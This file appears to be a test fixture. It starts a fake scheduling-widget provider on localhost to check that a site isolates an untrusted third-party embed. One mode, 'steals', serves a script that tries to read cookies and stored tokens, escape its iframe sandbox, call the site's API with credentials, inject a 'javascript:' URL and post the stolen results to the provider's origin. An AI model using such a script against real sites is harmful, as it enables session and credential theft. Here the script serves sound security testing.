import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

/**
 * Behaviour of the provider's script: embeds its calendar (`works`), renders its own content (`draws`), renders nothing
 * (`idles`), tries to use the visitor's session (`steals`), is answered with an error, or is never answered.
 */
export type SchedulerMode = 'works' | 'draws' | 'idles' | 'steals' | 'fails' | 'hangs';

const WORKS = `
  window.Calendly = {
    initInlineWidget({ url, parentElement }) {
      const frame = document.createElement('iframe');
      frame.src = url;
      frame.width = '100%';
      frame.height = '100%';
      parentElement.append(frame);
    },
  };
  for (const widget of document.querySelectorAll('.calendly-inline-widget:empty'))
    window.Calendly.initInlineWidget({ url: widget.dataset.url, parentElement: widget });
`;

const DRAWS = `
  for (const widget of document.querySelectorAll('.calendly-inline-widget')) widget.textContent = 'Pick a time';
`;

/** Posts the result of each attempt to `/report`: its value as JSON, or the error's name. Then it tries to navigate the page. */
const STEALS = `${DRAWS}
  const provider = new URL(document.currentScript.src).origin;
  const attempts = {
    cookie: () => document.cookie,
    token: () => localStorage.getItem('captain.token'),
    session: () => sessionStorage.length,
    database: () => indexedDB.open('stolen') && 'opened',
    parentToken: () => parent.localStorage.getItem('captain.token'),
    parentDocument: () => parent.document.title,
    topAddress: () => top.location.href,
    ownFrame: () => frameElement.removeAttribute('sandbox') ?? 'removed',
    api: () => fetch('/api/captain/me', { credentials: 'include' }).then((res) => res.status),
    image: () => new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => reject(new DOMException('', 'NetworkError'));
      image.src = new URL('/icon.svg', location.href);
    }),
  };
  (async () => {
    const report = { origin: self.origin };
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        report[name] = 'got ' + JSON.stringify(await attempt());
      } catch (error) {
        report[name] = error.name;
      }
    }
    const send = (path, body) => fetch(provider + path, { method: 'POST', mode: 'no-cors', body: JSON.stringify(body) });
    await send('/report', report);
    parent.postMessage({ type: 'calendar', url: 'javascript:parent.stolen = true' }, '*');
    parent.postMessage({ type: 'calendar', url: new URL('/captain', location.href).href }, '*');
    try {
      top.location.href = provider + '/stolen';
    } catch {}
    await send('/tried', null);
  })();
`;

const SCRIPTS = { works: WORKS, draws: DRAWS, idles: '', steals: STEALS };

/** A fake scheduling provider: script and booking pages on its own port. Start the site with `env`. */
export async function startFakeScheduler() {
  let mode: SchedulerMode = 'works';
  const unanswered = new Set<ServerResponse>();
  const reports = Promise.withResolvers<Record<string, string>>();
  const tried = Promise.withResolvers<void>();
  const server = createServer(async (request, response) => {
    if (request.url === '/widget.js') sendScript(response);
    else if (request.url === '/report') reports.resolve(await readJson(request));
    else if (request.url === '/tried') tried.resolve();
    else {
      response.writeHead(200, { 'Content-Type': 'text/html' });
      response.end('<!doctype html><title>Pick a time</title><p>Pick a time<p><button>10:00</button>');
    }
    if (request.method === 'POST') response.end();
  });

  function sendScript(response: ServerResponse) {
    if (mode === 'hangs') {
      unanswered.add(response);
    } else if (mode === 'fails') {
      response.writeHead(500);
      response.end();
    } else {
      response.writeHead(200, { 'Content-Type': 'text/javascript' });
      response.end(SCRIPTS[mode]);
    }
  }

  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url,
    env: {
      SCHEDULER_SCRIPT_URL: `${url}/widget.js`,
      SCHEDULER_CONSULTATION_URL: `${url}/consultation`,
      SCHEDULER_STRATEGY_URL: `${url}/strategy`,
      SCHEDULER_VOICE_AI_URL: `${url}/voice-ai`,
    },
    /** Resolves with the results of the script that `steals`. */
    report: reports.promise,
    /** Resolves when the script has also tried to navigate the page. */
    tried: tried.promise,
    set(next: SchedulerMode) {
      mode = next;
    },
    async stop() {
      for (const response of unanswered) response.destroy();
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

async function readJson(request: IncomingMessage): Promise<Record<string, string>> {
  return JSON.parse(await text(request)) as Record<string, string>;
}
